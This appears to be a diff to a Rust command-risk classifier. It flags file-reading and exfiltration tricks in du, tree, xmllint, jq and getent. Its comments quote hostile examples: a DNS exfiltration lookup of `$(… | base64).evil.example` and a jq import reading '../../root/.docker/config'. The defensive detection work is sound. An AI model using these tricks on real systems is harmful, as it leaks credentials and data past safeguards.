@@ -202,7 +202,13 @@ pub(crate) const PROGRAMS: &[Program] = &[
         output: Some(names),
         ..Program::NONE
     },
-    Program::of(&["du", "stat"], RO | kind::PRINTS_NAMES),
+    Program {
+        names: &["du"],
+        kind: RO | kind::PRINTS_NAMES,
+        model: Some(du),
+        ..Program::NONE
+    },
+    Program::of(&["stat"], RO | kind::PRINTS_NAMES),
     Program {
         names: &["realpath", "readlink"],
         kind: RO | kind::PRINTS_NAMES,
@@ -300,6 +306,7 @@ pub(crate) const PROGRAMS: &[Program] = &[
         names: &["getent"],
         kind: RO | kind::SENDS,
         offline: Some(getent_offline),
+        model: Some(getent_model),
         dangers: Some(getent),
         ..Program::NONE
     },
@@ -419,6 +426,13 @@ fn second_operand_written(call: &Call<'_>) -> Model {
 
 fn tree(call: &Call<'_>) -> Model {
     let p = generic(call);
+    // `--fromfile FILE` prints FILE's lines as a tree; `--hintro`/`--houtro` copy a file in.
+    if ["fromfile", "fromtabfile", "hintro", "houtro"]
+        .iter()
+        .any(|l| p.has_long(l))
+    {
+        return Model::RunsCode("tree --fromfile/--hintro prints the content of a file".into());
+    }
     if p.has_short('o') {
         Model::Mutating("tree -o writes a file")
     } else if p.has_short('R') {
@@ -526,6 +540,16 @@ fn from_arguments(call: &Call<'_>) -> Shape {
     }
 }
 
+/// `du --files0-from=FILE` reads names from a file and prints the ones it cannot find, which
+/// is the file's content.
+fn du(call: &Call<'_>) -> Model {
+    if call.opts.longs.iter().any(|(l, _)| l.starts_with("files0")) {
+        Model::RunsCode("du --files0-from prints a file's content in its errors".into())
+    } else {
+        Model::ReadOnly
+    }
+}
+
 /// `bat --pager CMD`, `delta --pager CMD` run a program; otherwise they print.
 fn bat(call: &Call<'_>) -> Model {
     if call.opts.longs.iter().any(|(l, _)| l.starts_with("pager")) {
@@ -538,6 +562,22 @@ fn bat(call: &Call<'_>) -> Model {
 /// `xmllint --output FILE` writes; `--shell` takes commands.
 fn xmllint(call: &Call<'_>) -> Model {
     let p = &call.opts;
+    // XInclude, DTDs and schemas pull in files (or URLs) the document names.
+    if [
+        "xinclude",
+        "loaddtd",
+        "dtdvalid",
+        "dtdattr",
+        "relaxng",
+        "schema",
+        "schematron",
+        "path",
+    ]
+    .iter()
+    .any(|l| p.has_long(l))
+    {
+        return Model::RunsCode("xmllint reads files or URLs the document names".into());
+    }
     if p.has_long("output") || p.has_short('o') || p.has_long("shell") {
         Model::Mutating("xmllint --output writes a file")
     } else {
@@ -689,6 +729,15 @@ fn ip(call: &Call<'_>) -> Model {
 
 /// `getent hosts NAME` asks DNS: a name computed at run time (`$(… | base64).evil.example`)
 /// carries data out. Literal names are lookups like any other.
+/// `getent hosts "$(… | base64).e.example"`: the name is a DNS query that carries data.
+fn getent_model(call: &Call<'_>) -> Model {
+    if getent_offline(call) {
+        Model::ReadOnly
+    } else {
+        Model::RunsCode("getent looks up a name built at run time (DNS carries it out)".into())
+    }
+}
+
 fn getent_offline(call: &Call<'_>) -> bool {
     let mut ops = call.opts.operands.iter();
     let hosts = ops
@@ -785,6 +834,14 @@ fn hostname(call: &Call<'_>) -> Model {
 
 fn jq(call: &Call<'_>) -> Model {
     let p = &call.opts;
+    // `import "../../root/.docker/config" as $c`: a filter that reads other files.
+    if call
+        .args
+        .iter()
+        .any(|w| w.text.contains("import ") || w.text.contains("include "))
+    {
+        return Model::RunsCode("the jq filter imports files".into());
+    }
     if p.has_short('i') || p.has_long("inplace") || p.has_long("in-place") {
         return Model::Mutating("edits files in place");
     }
